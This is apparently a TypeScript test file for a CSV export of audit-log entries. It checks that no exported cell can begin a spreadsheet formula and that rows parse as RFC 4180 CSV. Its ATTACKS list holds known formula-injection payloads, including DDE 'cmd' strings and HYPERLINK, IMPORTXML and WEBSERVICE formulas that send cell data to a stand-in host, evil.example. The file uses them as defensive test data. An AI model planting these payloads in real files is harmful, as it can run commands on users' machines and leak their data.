/** The table for spreadsheets: read back by a reader of RFC 4180, and with no cell that any spreadsheet would run. */
import assert from "node:assert/strict";
import test from "node:test";
import fc from "fast-check";
import { CSV_COLUMNS, csvBegin, csvEnd, csvRow } from "../../storage/export/csv.ts";
import { exportedEntry, type ExportedEntry } from "../../storage/export/entry.ts";
import type { JsonObject } from "../../storage/log/json.ts";
import { DemoLog } from "../log/demo-log.ts";
import { property } from "../log/property.ts";

const TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
/** As published by OWASP and by people who tried. */
const ATTACKS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
  '=WEBSERVICE("http://evil.example")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u3000＝1+1",
  "\ufeff=1+1",
  "\0=1+1",
  '"=1+1',
  '""=1+1',
  "';=1+1",
  'x";=1+1;"',
  "x;=1+1",
  "x; =1+1",
  "x\t@SUM(1)",
  "x\n+1",
  "x\u2028-1",
  'a",=1+1,"b',
  "；=1",
];

function entryWith(event: JsonObject): ExportedEntry {
  const time = "2026-10-24T00:00:00.000Z";
  return { seq: 7, hash: "a".repeat(64), by: "token:x", time, event };
}

/** An independent reader: rows of cells; throws for what RFC 4180 does not allow. `separator` as another program may take it. */
function readCsv(text: string, separator = ","): string[][] {
  const rows: string[][] = [];
  let cells: string[] = [];
  for (let at = 0; at < text.length;) {
    let cell = "";
    if (text[at] === '"') {
      for (at++; ; at++) {
        if (at >= text.length) throw new Error("a quote without an end");
        if (text[at] !== '"') cell += text[at]!;
        else if (text[at + 1] === '"') cell += text[at++]!;
        else break;
      }
      at++;
    }
    while (at < text.length && text[at] !== separator && !text.startsWith("\r\n", at)) {
      cell += text[at++]!;
    }
    cells.push(cell);
    if (text[at] === separator) at++;
    else {
      at += 2;
      rows.push(cells);
      cells = [];
    }
  }
  return rows;
}

/** As spreadsheets do that take a tab, a semicolon or any line's end for the end of a cell, quotes or not. */
function cellsAnyhow(row: string): string[] {
  return row.split(/[;\t\r\n\v\f\u0085\u2028\u2029]/).map((cell) => cell.replace(/^[\s\0"]+/u, ""));
}

function assertHarmless(row: string, what: string): void {
  const [cells] = readCsv(row) as [string[]];
  assert.equal(cells.length, CSV_COLUMNS.length, what);
  for (const cell of [...cells.slice(1), ...cellsAnyhow(row)]) {
    assert.ok(
      !TRIGGERS.includes([...cell.trimStart()][0] ?? ""),
      `${JSON.stringify(cell)}: ${what}`,
    );
    assert.ok(!/^[\t\r\n]/.test(cell), what);
  }
}

test("no attack that is known begins a cell, in whatever member it stands", () => {
  for (const text of ATTACKS) {
    const party = { id: text, name: text, type: text };
    const context = {
      ip: text,
      user_agent: text,
      location: text,
      request_id: text,
      session_id: text,
      trace_id: text,
    };
    const details = { [text]: text, list: [text, { text }], more: `x;${text}` };
    const targets = [party, party];
    const event = {
      action: text,
      actor: party,
      targets,
      context,
      details,
      id: text,
      occurred_at: text,
    };
    const row = csvRow({ ...entryWith(event), by: text });
    assertHarmless(row, JSON.stringify(text));
    const cell = (name: string): string => readCsv(row)[0]![CSV_COLUMNS.indexOf(name)]!;
    assert.equal(
      cell("actor_name").replaceAll("'", ""),
      text.replaceAll("'", ""),
      "nothing but apostrophes",
    );
    assert.deepEqual(JSON.parse(cell("details")), details, "JSON is the same value");
    assert.deepEqual(JSON.parse(cell("more_targets")), [party]);
  }
});

property(
  "no text begins a formula, and every text is there but for apostrophes",
  fc.array(
    fc.oneof(
      fc.constantFrom(...TRIGGERS, ";", "\t", "\r", "\n", '"', "'", " ", ",", "\u2028", "a"),
      fc.string({ unit: "grapheme" }),
    ),
  ),
  (parts) => {
    const text = parts.join("");
    const row = csvRow(
      entryWith({ action: "a", actor: { id: "i", name: text }, details: { text } }),
    );
    assertHarmless(row, JSON.stringify(text));
    const cell = (name: string): string => readCsv(row)[0]![CSV_COLUMNS.indexOf(name)]!;
    assert.equal(cell("actor_name").replaceAll("'", ""), text.replaceAll("'", ""));
    assert.deepEqual(JSON.parse(cell("details")), { text });
  },
);

test("ordinary texts are left as they are", () => {
  const name = "Zoë O'Brien, 2026-11-23 a=b 1+1 me@example.com";
  const row = csvRow(
    entryWith({
      action: "invoice.paid",
      actor: { id: "u-1", name },
      details: { at: "2026-11-23", n: -5 },
    }),
  );
  const [cells] = readCsv(row);
  assert.equal(cells![CSV_COLUMNS.indexOf("actor_name")], name);
  assert.equal(cells![CSV_COLUMNS.indexOf("details")], '{"at":"2026-11-23","n":-5}');
});

test("the first row says what it is, the last that it is whole, and all are as wide", () => {
  const log = new DemoLog();
  log.append(3);
  const rows = log.lines.map((line, seq) => csvRow(exportedEntry(seq, log.leaves[seq]!, line)));
  const text = csvBegin("demo", 0, 3) + rows.join("") + csvEnd(3, "f".repeat(64));
  assert.equal(text[0], "\ufeff");
  const [first, names, ...more] = readCsv(text.slice(1));
  assert.match(first![0]!, /^Not evidence: demo from entry 0 to 2 /);
  assert.deepEqual(names, CSV_COLUMNS);
  assert.deepEqual(
    more.map(([cell]) => cell),
    ["0", "1", "2", `End: 3 entries. SHA-256 of all before this row: ${"f".repeat(64)}`],
  );
  for (const row of [first!, ...more]) assert.equal(row.length, CSV_COLUMNS.length);
  const entry = Object.fromEntries(CSV_COLUMNS.map((name, at) => [name, more[1]![at]!]));
  assert.deepEqual(
    [
      entry["action"],
      entry["actor_id"],
      entry["details"],
      entry["by"],
      entry["hash"],
      entry["target_id"],
    ],
    ["a.1", "é", '{"n":1,"€":1.5}', "token:test", log.leaves[1], ""],
  );
});
